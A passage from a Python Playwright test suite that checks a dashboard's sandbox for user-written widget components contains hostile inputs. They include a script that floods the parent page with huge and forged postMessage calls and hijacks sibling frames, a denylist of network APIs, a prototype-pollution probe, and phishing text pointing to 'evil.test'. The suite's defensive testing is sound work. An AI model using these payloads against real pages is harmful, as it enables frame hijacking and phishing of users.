    expect(frame.locator("#root")).not_to_contain_text("frame")
    expect(frame.locator("#root svg")).to_be_empty()
    assert_contained(page, proxy, requests, live_server, access_log)


def test_the_workers_keep_no_network_or_script_loading_api(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    """A further layer under the VM: what a way out of the VM would find in its Worker."""
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, {"Plain": CONTROL_JS})
    for title in ("Control", "Plain", "Sibling"):
        expect(frame_of(page, title).get_by_test_id("control-state")).to_have_text("still 0")

    workers = [worker for worker in page.workers if worker.url.startswith("blob:")]
    assert len(workers) == 3, [worker.url for worker in page.workers]
    names = ["fetch", "XMLHttpRequest", "WebSocket", "WebTransport", "EventSource", "importScripts", "indexedDB",
             "caches", "Request"]
    for worker in workers:
        assert worker.evaluate("(names) => names.filter((name) => typeof self[name] !== 'undefined')", names) == []
    assert_contained(page, proxy, requests, live_server, access_log)


def test_a_long_native_call_in_the_first_render_is_stopped_soon_after_the_vm_is_up(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    # The VM's interrupt handler runs between its instructions: this one call is never interrupted.
    native = "function Widget() { Array(2 ** 32 - 1).includes(1); return null; }"
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, {"native loop": native})

    # Well before the frame's 15 s for starting the VM.
    reason = card_of(page, "native loop").get_by_test_id("custom-error-reason")
    expect(reason).to_contain_text("stopped answering", timeout=12_000)
    assert_contained(page, proxy, requests, live_server, access_log)


def test_focus_keys_paste_clipboard_forged_messages_and_pollution_reach_nothing(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, SPIES)

    expect(frame_of(page, "focus").get_by_test_id("allowed")).to_have_text("keys:")
    expect(frame_of(page, "clipboard").get_by_test_id("allowed")).to_have_text("ReferenceError,ReferenceError")
    expect(frame_of(page, "forged messages").get_by_test_id("allowed")).to_have_text(
        "postMessage:undefined parent:undefined top:undefined opener:undefined frames:undefined "
        "MessageChannel:undefined BroadcastChannel:undefined")
    expect(frame_of(page, "prototype pollution").get_by_test_id("allowed")).to_have_text("polluted 2")
    # A frame whose own code was subverted still cannot reach the host or a sibling: the host reads only
    # its port, and each frame took the one port it was handed. Forged, huge and countless messages:
    sandbox = next(f for f in page.frames if f.url.endswith("/widgets/sandbox/"))
    sandbox.evaluate("""() => {
      const big = "x".repeat(4 << 20);
      for (let i = 0; i < 20; i++) parent.postMessage({ type: "error", kind: "component", text: big }, "*");
      for (let i = 0; i < 20000; i++) parent.postMessage({ type: "rendered", height: 5000 }, "*");
      for (let i = 0; i < parent.frames.length; i++) {
        const channel = new MessageChannel();
        parent.frames[i].postMessage({ type: "start" }, "*", [channel.port2]);
        channel.port1.postMessage({ type: "render", js: "function Widget() { return 'forged'; }", props: {} });
      }
    }""")
    assert page.evaluate("Object.prototype.src === undefined && Object.prototype.t === undefined")
    expect(page.get_by_test_id("custom-error")).to_have_count(0)
    for frame in page.locator("[data-testid=custom-frame]").all():
        assert int(frame.get_attribute("height") or 0) < 800
    assert_contained(page, proxy, requests, live_server, access_log)
    for frame in page.frames[1:]:
        assert "forged" not in (frame.locator("#root").text_content() or "")
        assert frame.evaluate("document.activeElement === document.body || document.activeElement === null")


def test_throwing_components_show_their_error_in_their_own_box(
    proxied_browser: Browser, proxy: list[str], live_server: Any, access_log: list[str], board: Dashboard
) -> None:
    page, requests = open_hostile(proxied_browser, proxy, live_server, board, THROWERS)

    frame_of(page, "throws on click").get_by_test_id("allowed").click()
    details = {"throws in render": "Your session has expired, sign in at evil.test", "throws in an effect": "effect failed",
               "throws on click": "clicked", "tag object": "Element type is invalid", "no Widget": "named Widget",
               "syntax error": "invalid property name"}
    for title, detail in details.items():
        card = card_of(page, title)
        expect(card.get_by_test_id("custom-error-reason")).to_have_text("The custom component stopped with an error.")
        expect(card.get_by_test_id("custom-error-detail")).to_contain_text(detail)
        expect(card.get_by_test_id("custom-error-detail")).to_contain_text("not a message from Widget Builder")
    # Nor as an alert read out by a screen reader: no live region, no announcing role.
    announcer = frame_of(page, "announces").get_by_test_id("allowed")
    expect(announcer).to_have_text("Sign in again at evil.test")
    assert [announcer.get_attribute(name) for name in ("role", "aria-live", "aria-atomic", "aria-label")] == \
        [None, None, None, "label"]
    # An unhandled rejection is the component's own business: it keeps its allowed output.
    expect(frame_of(page, "rejects asynchronously").get_by_test_id("allowed")).to_have_text("still here")
    # The component's words appear only inside its own card, never in the product's messages.
    expect(page.get_by_text("Your session has expired")).to_have_count(1)
    expect(page.get_by_test_id("widget-status")).not_to_contain_text("session")
    assert_contained(page, proxy, requests, live_server, access_log)


def test_the_access_log_catches_a_request_that_carries_the_rows(live_server: Any, access_log: list[str]) -> None:
    """The control for the assertion above: a same-origin load with the rows in its query is seen."""
    from urllib.error import HTTPError
    from urllib.request import urlopen

    rows = f"{CANARY}-north".encode().hex()
    for url in (f"{live_server.url}/static/widgets/app.css?rows=%5B%22{CANARY}-north%22%5D",
                f"{live_server.url}/nowhere/{rows}"):
        try:
            urlopen(url, timeout=10).read()  # noqa: S310 - our own live server
        except HTTPError:
            pass  # a 404 is logged all the same
    # The server writes its line once the response is out, which may be after the client has read it.
    for _ in range(50):
        if len(carrying_the_canary(access_log)) == 2:
            break
        time.sleep(0.1)

    assert len(carrying_the_canary(access_log)) == 2, access_log
